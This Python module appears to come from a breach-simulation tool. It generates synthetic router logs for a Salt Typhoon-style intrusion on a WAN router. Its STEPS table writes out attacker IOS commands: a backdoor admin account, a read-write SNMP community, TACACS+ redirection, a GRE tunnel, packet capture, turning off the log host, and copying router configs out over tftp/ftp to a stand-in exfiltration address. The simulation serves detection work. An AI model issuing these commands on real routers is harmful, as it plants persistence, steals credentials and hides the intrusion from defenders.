"""Router tampering in the style of Salt Typhoon on the WAN router: a login with stolen credentials,
then local accounts, ACL and SNMP changes, TACACS+ redirection, SSH on a high port, a GRE tunnel,
packet capture, the guest shell, logging switched off for a while, configuration copied out."""

from __future__ import annotations

import numpy as np

from breachscope.simulate import clock, episodes
from breachscope.simulate.config import SimConfig
from breachscope.simulate.network import Network
from breachscope.simulate.story import Story

ACTOR = "192.0.2.55"
EXFIL = "192.0.2.66"
ROGUE_AAA = "192.0.2.60"

#: (technique, mnemonic, text); "cmd:" entries are configuration commands (PARSER CFGLOG), "cli:" exec commands
#: logged by the EEM applet that records every command (HA_EM CLI_LOG)
STEPS: tuple[tuple[str, str, str], ...] = (
    ("valid_accounts", "SSH-5-SSH2_USERAUTH", "User '{admin}' authentication for SSH2 Session from "
     f"{ACTOR} (tty = 1) using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded"),
    ("valid_accounts", "SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: {admin}] "
     f"[Source: {ACTOR}] [localport: 22] at {{at}}"),
    ("local_account", "cmd", "username cisco_tac privilege 15 secret 9 $9$Zk2q1Xv0dQ3s9E$hP4bV0m2YJw7QfQ8nq2rLx"),
    ("acl_change", "cmd", "ip access-list standard 20"),
    ("acl_change", "cmd", "permit 192.0.2.0 0.0.0.255"),
    ("snmp_community", "cmd", "snmp-server community Tr0pic4l RW 20"),
    ("aaa_redirection", "cmd", "tacacs server TAC2"),
    ("aaa_redirection", "cmd", f"address ipv4 {ROGUE_AAA}"),
    ("aaa_redirection", "cmd", "aaa group server tacacs+ TACGRP"),
    ("aaa_redirection", "cmd", "server name TAC2"),
    ("ssh_unusual_port", "cmd", "ip ssh port 57722 rotary 1"),
    ("ssh_unusual_port", "cmd", "line vty 0 4"),
    ("ssh_unusual_port", "cmd", "rotary 1"),
    ("gre_tunnel", "cmd", "interface Tunnel101"),
    ("gre_tunnel", "cmd", "ip address 172.31.250.1 255.255.255.252"),
    ("gre_tunnel", "cmd", "tunnel source GigabitEthernet0/0/0"),
    ("gre_tunnel", "cmd", f"tunnel destination {EXFIL}"),
    ("gre_tunnel", "LINEPROTO-5-UPDOWN", "Line protocol on Interface Tunnel101, changed state to up"),
    ("config_change", "SYS-5-CONFIG_I", f"Configured from console by {{admin}} on vty1 ({ACTOR})"),
    ("packet_capture", "cli", "monitor capture CAP1 interface GigabitEthernet0/0/1 both"),
    ("packet_capture", "cli", "monitor capture CAP1 match ipv4 any any"),
    ("packet_capture", "cli", "monitor capture CAP1 start"),
    ("packet_capture", "BUFCAP-6-ENABLE", "Capture Point CAP1 enabled."),
    ("guest_shell", "cli", "guestshell enable"),
    ("guest_shell", "IM-6-START_MSG", "R0/0: ioxman: app-hosting: Start succeeded: guestshell started successfully"),
    ("config_exfiltration", "cli", f"copy running-config tftp://{EXFIL}/wr1.cfg"),
    ("config_exfiltration", "cli", f"copy startup-config ftp://{EXFIL}/wr1-startup.cfg"),
    ("logging_disabled", "cmd", "no logging host {loghost}"),
    ("logging_disabled", "SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host {loghost} port 514 stopped - CLI initiated"),
)


def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) -> dict:

    router = net.host("wan_router")
    t = episodes.at(cfg, 1, 2, 13, 4.0)
    first = t
    techniques: dict[str, int] = {}
    names = {"{admin}": net.network_admin, "{loghost}": net.spec.log_collector}
    for technique, mnemonic, template in STEPS:
        text = template
        for key, value in names.items():
            text = text.replace(key, value)
        t += int(rng.integers(4, 40)) * clock.US
        tag = f"episode:salt-typhoon:{technique}"
        arr = np.array([t])
        if mnemonic == "cmd":
            story.ios(t, router.name, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:{net.network_admin}  logged command:{text}",
                      tag)
        elif mnemonic == "cli":
            story.ios(t, router.name, "HA_EM-6-LOG", f"CLI_LOG: {text}", tag)
            if "tftp://" in text:
                story.conn(t + 500_000, router.ip, int(rng.integers(49152, 65536)), EXFIL, 69, "udp", "-", 2.1,
                           48_211, 1_204, tag=tag, history="Dd")
            if "ftp://" in text and "tftp" not in text:
                story.conn(t + 500_000, router.ip, int(rng.integers(49152, 65536)), EXFIL, 21, "tcp", "ftp", 3.4,
                           1_020, 2_310, tag=tag)
        else:
            at = clock.cisco_login_at(arr)[0].as_py()
            story.ios(t, router.name, mnemonic, text.replace("{at}", at), tag)
        techniques[technique] = techniques.get(technique, 0) + 1
    silent_from = t + 1_000
    silent_to = episodes.at(cfg, 2, 5, 40, 0.0)
    tag = "episode:salt-typhoon:logging_disabled"
    story.ios(silent_to + 10_000, router.name, "SYS-6-LOGGINGHOST_STARTSTOP",
              f"Logging to host {net.spec.log_collector} port 514 started - CLI initiated", tag)
    story.ios(silent_to + 2 * clock.US, router.name, "SYS-5-CONFIG_I",
              f"Configured from console by {net.network_admin} on vty1 ({ACTOR})", tag)
    # the GRE tunnel carries traffic the sensor sees as protocol 47 between the router and the remote end
    for i in range(6):
        ts = silent_from + (i + 1) * 50 * clock.MINUTE
        story.conn(ts, router.ip, 0, EXFIL, 0, "unknown_transport", "-", 1800.0,
                   int(rng.integers(2_000_000, 9_000_000)), int(rng.integers(100_000, 400_000)), "OTH",
                   tag="episode:salt-typhoon:gre_tunnel", history="-")
    return {"router": {"name": router.name, "ip": router.ip}, "actor_ip": ACTOR, "remote_end": EXFIL,
            "rogue_tacacs": ROGUE_AAA, "techniques": techniques, "start": int(first),
            "logging_silenced": {"from": int(silent_from), "to": int(silent_to)}}


def silenced(section: dict) -> list[tuple[str, int, int]]:
    """The router sends nothing while its logging host is removed."""
    quiet = section["logging_silenced"]
    return [(section["router"]["name"], quiet["from"], quiet["to"])]
